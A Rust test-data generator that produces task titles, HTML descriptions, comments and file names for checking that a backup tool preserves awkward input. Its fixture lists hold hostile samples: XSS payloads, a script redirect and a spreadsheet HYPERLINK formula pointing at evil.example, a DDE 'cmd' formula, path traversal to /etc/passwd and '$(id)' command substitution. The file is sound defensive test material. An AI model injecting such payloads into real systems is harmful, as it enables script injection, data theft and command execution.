//! Titles, names and HTML as people and attackers write them. Everything here is data that a backup must carry unharmed.

use super::mix::{mix, pick};

const SUBJECTS: [&str; 16] = [
    "Landing page",
    "Quarterly report",
    "Onboarding",
    "Price list",
    "Newsletter",
    "Trade fair",
    "Website relaunch",
    "Customer survey",
    "Data sheet",
    "Invoice run",
    "Release notes",
    "Road map",
    "Supplier audit",
    "Training plan",
    "Video shoot",
    "Warehouse move",
];
const ACTIONS: [&str; 8] = ["draft", "review", "approve", "translate", "measure", "plan", "hand over", "clean up"];

/// Titles that break careless programs: markup, formulas, paths, controls, direction marks, decomposed letters.
const HOSTILE_TITLES: [&str; 20] = [
    "<script>alert('title')</script>",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "+1-555-0100 @SUM(A1:A9)",
    "../../etc/passwd",
    "CON",
    "trailing dots and space... ",
    "\u{1F469}\u{200D}\u{1F4BB} party \u{1F389}\u{1F1EA}\u{1F1FA}",
    "\u{202E}gpj.exe \u{05E9}\u{05DC}\u{05D5}\u{05DD} \u{0645}\u{0631}\u{062D}\u{0628}\u{0627}",
    "Cafe\u{0301} nai\u{0308}ve (decomposed)",
    "Caf\u{e9} na\u{ef}ve (composed)",
    "line one\nline two\r\nline three\ttab",
    "\u{1}\u{2}\u{7f} controls \u{85}\u{2028}\u{2029}",
    "\"quoted\", 'single', `tick`; semi\\colon | pipe",
    "</title></textarea><img src=x onerror=alert(1)>",
    "{\"json\": [true, null]} & &amp; &#0;",
    "%2e%2e%2f %00 %s %n ${HOME} $(id)",
    "NULL",
    "0012345678901234567890",
    "\u{FEFF}byte order mark and zero\u{200B}width",
    "\u{10FFFD}\u{E000} private use",
];

/// The title of a task or folder. Every eighth is hostile, every hundredth longer than 255 bytes.
pub(crate) fn title(key: u64, index: u64) -> String {
    let hash = mix(key, index);
    if index % 100 == 33 {
        return format!("{} {}", "Very long title \u{1F4CE} ".repeat(16), index);
    }
    if index % 8 == 3 {
        return pick(&HOSTILE_TITLES, index / 8).to_owned();
    }
    format!("{}: {} {}", pick(&SUBJECTS, hash), pick(&ACTIONS, hash >> 8), index)
}

/// An HTML description; empty for every fifth. `author` is the id of a mentioned contact, `file` an inline image.
pub(crate) fn description(key: u64, index: u64, author: &str, file: Option<&str>) -> String {
    let hash = mix(key, index);
    match index % 5 {
        0 => String::new(),
        1 => format!("<b>{}</b><br />{}", pick(&SUBJECTS, hash), plain(hash)),
        2 => format!(
            "<p>{} <a class=\"stream-user-id avatar\" rel=\"{author}\">&#64;Ada</a></p><ul><li>{}</li><li>&lt;b&gt;</li></ul>",
            plain(hash),
            pick(&ACTIONS, hash >> 5)
        ),
        3 => {
            let image = file.map_or_else(String::new, |src| format!("<img src=\"{src}\" alt=\"inline\" />"));
            format!("<table><tbody><tr><td>{}</td><td>{image}</td></tr></tbody></table>", plain(hash))
        }
        _ => format!(
            "<script>alert({index})</script><a href=\"javascript:alert(1)\">go</a><svg onload=alert(1)>{}",
            pick(&HOSTILE_TITLES, hash)
        ),
    }
}

/// A few plain words.
pub(crate) fn plain(hash: u64) -> String {
    format!("{} to {} before {}.", pick(&SUBJECTS, hash), pick(&ACTIONS, hash >> 4), pick(&SUBJECTS, hash >> 8))
}

/// The HTML text of a comment with a mention of `contact`.
pub(crate) fn comment(key: u64, index: u64, contact: &str) -> String {
    let hash = mix(key, index);
    match index % 7 {
        0 => format!("<a class=\"stream-user-id avatar\" rel=\"{contact}\">&#64;Grace</a> {}", plain(hash)),
        1 => format!("Seen. <a href=\"https://example.com/?a=1&amp;b={index}\">link</a>"),
        2 => format!("{}\nsecond line\n\n\u{1F44D}\u{1F3FD}", plain(hash)),
        3 => format!("<b>{}</b> <i>{index}</i>", pick(&HOSTILE_TITLES, hash)),
        4 => "<script>document.location='https://evil.example/'</script>".to_owned(),
        5 => format!("=cmd|' /C calc'!A0 {index}"),
        _ => plain(hash),
    }
}

/// Names of files and their content types; hostile ones among them.
const FILE_NAMES: [(&str, &str); 22] = [
    ("minutes.txt", "text/plain"),
    ("minutes.txt", "text/plain"),
    ("Minutes.TXT", "text/plain"),
    ("photo.jpg", "image/jpeg"),
    ("budget.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("shared document", "application/vnd.google-apps.document"),
    ("../../x", "application/octet-stream"),
    ("CON.txt", "text/plain"),
    ("trailing dots...", "application/octet-stream"),
    ("contract.pdf", "application/pdf"),
    ("contract.pdf", "application/pdf"),
    ("\u{1F4CA} \u{0645}\u{0644}\u{0641}.csv", "text/csv"),
    ("Re\u{0301}sume\u{0301}.doc", "application/msword"),
    ("a:b*c?d\"e<f>g|h\\i/j.png", "image/png"),
    ("<img src=x onerror=alert(1)>.html", "text/html"),
    (".hidden", "application/octet-stream"),
    ("dropbox video.mp4", "video/mp4"),
    ("no extension", "application/octet-stream"),
    ("archive.tar.gz", "application/gzip"),
    ("plan.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("plan.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("plan.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
];

/// Name and content type of the file at a place (0 to 21) of a block of rows. Every second block has a name of more
/// than 255 bytes in place of `no extension`.
pub(crate) fn file_name(block: u64, place: u64) -> (String, &'static str) {
    if place == 17 && block % 2 == 1 {
        return (format!("{}.txt", "long name \u{1F4CE} ".repeat(20)), "text/plain");
    }
    let (name, content_type) = pick(&FILE_NAMES, place);
    (name.to_owned(), content_type)
}

/// HTML without its tags, as `plainText=true` gives it.
pub(crate) fn strip_tags(html: &str) -> String {
    let mut text = String::with_capacity(html.len());
    let mut inside = false;
    for letter in html.chars() {
        match letter {
            '<' => inside = true,
            '>' if inside => inside = false,
            _ if !inside => text.push(letter),
            _ => {}
        }
    }
    text.replace("&#64;", "@").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
}
